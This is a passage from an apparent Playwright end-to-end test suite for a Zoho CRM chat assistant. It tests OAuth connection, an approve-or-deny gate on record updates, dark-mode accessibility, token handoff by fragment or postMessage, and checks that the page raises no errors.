    await action.locator('button', { hasText: 'Connect Zoho' }).waitFor();
    await idle();
    expect(rig.llm.requests.at(-1)!.body.tools ?? []).toEqual([]);
    await rig.shots(page, '19-not-connected');

    const popupOpened = page.waitForEvent('popup');
    await action.locator('button', { hasText: 'Connect Zoho' }).click();
    const popup = await popupOpened;
    await popup.click('#accept');
    const done = lastAnswer().locator('.action-done');
    await done.waitFor();
    expect(await done.locator('button', { hasText: 'Connect Zoho' }).isDisabled()).toBe(true);
    await expect.poll(() => page.locator('#zoho-status-text').textContent()).toBe(`Zoho: ${GRACE.email}`);
    await rig.shots(page, '20-connected-ask-again');

    const index = rig.llm.requests.length;
    rig.llm.script({ toolCalls: [{ id: 'call_g_1', name: 'crm_get_org', arguments: {} }] }, { text: 'You are in Fake Org.' });
    await done.locator('button', { hasText: 'Ask again' }).click();
    await lastAnswer().locator('.md', { hasText: 'You are in Fake Org.' }).waitFor();
    await idle();
    expect(rig.llm.requests[index]!.body.tools.length).toBeGreaterThan(0);
    expect(rig.llm.requests[index]!.body.messages.filter((m: any) => m.content === 'Which org am I in?')).toHaveLength(1);
    expect(await lastAnswer().locator('.action').count()).toBe(0);
  });

  it('follows prefers-color-scheme into dark mode, with no serious axe violation on the chat and approval views', async () => {
    await page.emulateMedia({ colorScheme: 'dark' });
    try {
      expect(await page.evaluate(() => getComputedStyle(document.body).backgroundColor)).toBe('rgb(11, 17, 32)');
      await expectNoAxeViolations();
      rig.llm.script(
        { toolCalls: [{ id: 'call_dark_1', name: 'crm_update_record', arguments: { module: 'Leads', id: '123456789', record: { Lead_Status: 'Contacted' } } }] },
        { text: 'Left as it was.' },
      );
      await ask('Mark that lead as contacted');
      const box = lastAnswer().locator('.action-approval');
      await box.locator('button', { hasText: 'Approve' }).waitFor();
      await idle();
      await expectNoAxeViolations();
      await rig.shots(page, '21-dark-approval');
      await box.locator('button', { hasText: 'Deny' }).click();
      await lastAnswer().locator('.md', { hasText: 'Left as it was.' }).waitFor();
      await idle();
    } finally {
      await page.emulateMedia({ colorScheme: 'light' });
    }
  });

  it('takes a token from its host app: a #token= fragment, or postMessage from the opener', async () => {
    const viaFragment = await rig.context.newPage();
    await viaFragment.goto(`${rig.base}/#token=${await rig.t.tokenFor('bob')}`);
    await viaFragment.locator('#user-chip', { hasText: 'bob' }).waitFor();
    expect(new URL(viaFragment.url()).hash).toBe('');
    await viaFragment.close();

    const carol = await rig.t.tokenFor('carol');
    const popupOpened = page.waitForEvent('popup');
    await page.evaluate((token) => {
      const w = window.open('/', 'host-handoff');
      window.addEventListener('message', (e) => {
        if (e.source === w && e.data?.type === 'zoho-runtime-ready') w!.postMessage({ type: 'zoho-runtime-token', token }, location.origin);
      });
    }, carol);
    const hosted = await popupOpened;
    await hosted.locator('#user-chip', { hasText: 'carol' }).waitFor();
    await hosted.close();
  });

  it('raised no script error in the page', () => {
    expect(pageErrors).toEqual([]);
    // Besides the planted image the CSP refused and the stream the proxy cut on purpose: nothing.
    expect(consoleLines.filter((l) => l.startsWith('error:') && !l.includes('planted.png') && !l.includes('ERR_INCOMPLETE_CHUNKED_ENCODING'))).toEqual([]);
  });
});
